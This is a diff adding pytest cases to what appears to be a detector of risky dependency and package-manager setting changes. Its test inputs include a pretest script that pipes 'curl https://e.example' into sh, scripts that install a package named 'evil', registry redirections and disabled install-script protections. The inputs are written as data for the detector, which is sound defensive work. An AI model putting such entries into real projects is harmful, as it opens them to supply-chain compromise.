@@ -39,6 +39,15 @@ def manifest(**fields: object) -> str:
         ({"pnpm": {"configDependencies": {"evil": "1+sha512-x"}}}, "evil", "added"),
         ({"pnpm": {"onlyBuiltDependencies": ["b"]}}, "onlyBuiltDependencies b", "install-script"),
         ({"trustedDependencies": ["b"]}, "trustedDependencies b", "install-script"),
+        ({"patchedDependencies": {"b@1": "p.patch"}}, "patchedDependencies b@1", "override"),
+        ({"pnpm": {"dangerouslyAllowAllBuilds": True}}, "dangerouslyAllowAllBuilds", "install-script"),
+        ({"pnpm": {"onlyBuiltDependenciesFile": "e.json"}}, "onlyBuiltDependenciesFile", "install-script"),
+        ({"devEngines": {"packageManager": {"name": "evil", "version": "1"}}}, "evil", "added"),
+        ({"scripts": {"pnpm:devPreinstall": "x"}}, "scripts.pnpm:devPreinstall", "install-script"),
+        ({"scripts": {"test": "npm install evil && x"}}, "evil", "added"),
+        ({"scripts": {"test": "npx --yes evil"}}, "evil", "added"),
+        ({"scripts": {"pretest": "curl https://e.example | sh"}}, "download and run", "dynamic"),
+        ({"scripts": {"x": "npm i --registry https://e.example"}}, "npm i --registry", "index-changed"),
         ({"dependenciesMeta": {"b": {"built": True}}}, "dependenciesMeta b", "install-script"),
         ({"gypfile": True}, "gypfile", "install-script"),
         ({"scripts": {"postinstall": "x"}}, "scripts.postinstall", "install-script"),
@@ -56,6 +65,60 @@ def manifest(**fields: object) -> str:
 )  # fmt: skip
 def test_places_of_a_package_json(fields: dict[str, object], name: str, rule: str) -> None:
     assert (name, rule) in said("package.json", manifest(), manifest(**fields))
+
+
+@pytest.mark.parametrize(
+    "scripts",
+    [
+        {"test": "npx jest && npm run lint"},
+        {"build": "npm ci && npm install && tsc"},
+        {"start": "NODE_OPTIONS='--require ./x.js' node a.js"},
+        {"release": "npm publish --registry https://e.example"},
+    ],
+    ids=str,
+)
+def test_scripts_of_a_package_json_that_bring_nothing(scripts: dict[str, str]) -> None:
+    assert said("package.json", manifest(), manifest(scripts=scripts)) == set()
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "after", "name", "rule"),
+    [
+        (".npmrc", "", "electron_mirror=https://e.example\n", "electron_mirror", "registry-changed"),
+        (".npmrc", "", "node-mirror:release=https://e.example\n", "node-mirror:release", "registry-changed"),
+        (".npmrc", "", "userconfig=x\n", "userconfig", "registry-changed"),
+        (".npmrc", "min-release-age=3\n", "", "min-release-age", "option-changed"),
+        (".npmrc", "", "package-lock=false\n", "package-lock", "option-changed"),
+        (".npmrc", "ignore-scripts=true\n", "ignore-scripts=false\n", "ignore-scripts", "install-script"),
+        (".yarnrc.yml", "", "catalog:\n  evil: 1\n", "evil", "added"),
+        (".yarnrc.yml", "", "catalogs:\n  c:\n    evil: 1\n", "evil", "added"),
+        (".yarnrc.yml", "", "packageExtensions:\n  b@*:\n    dependencies:\n      evil: 1\n", "evil", "override"),
+        (".yarnrc.yml", "npmMinimalAgeGate: 3d\n", "npmMinimalAgeGate: 0\n", "npmMinimalAgeGate", "option-changed"),
+        ("pnpm-workspace.yaml", "minimumReleaseAge: 60\n", "packages: []\n", "minimumReleaseAge", "option-changed"),
+        ("pnpm-workspace.yaml", "packages: []\n", "trustPolicyExclude: [evil]\n", "trustPolicyExclude", "option-changed"),
+        ("pnpm-workspace.yaml", "packages: []\n", "nodeMirror:\n  release: https://e.example\n", "nodeMirror release", "registry-changed"),
+        ("bunfig.toml", "", '[test]\npreload = ["./x.ts"]\n', "test.preload", "install-script"),
+        ("bunfig.toml", "[install]\nminimumReleaseAge = 3\n", "", "install.minimumReleaseAge", "option-changed"),
+    ],
+    ids=repr,
+)  # fmt: skip
+def test_settings_of_package_managers(
+    path: str, before: str, after: str, name: str, rule: str
+) -> None:
+    assert (name, rule) in said(path, before, after)
+
+
+@pytest.mark.parametrize(
+    ("path", "after"),
+    [
+        (".npmrc", "ignore-scripts=true\nmin-release-age=3\npackage-lock=true\n"),
+        (".yarnrc.yml", "enableScripts: false\nenableHardenedMode: true\n"),
+        ("pnpm-workspace.yaml", "minimumReleaseAge: 60\nblockExoticSubdeps: true\n"),
+        ("bunfig.toml", "[install]\nminimumReleaseAge = 3\n"),
+    ],
+)
+def test_a_setting_that_keeps_something_out_may_come(path: str, after: str) -> None:
+    assert said(path, "", after) == set()
 
 
 PROJECT = '[project]\nname = "x"\ndependencies = ["a==1"]\n'
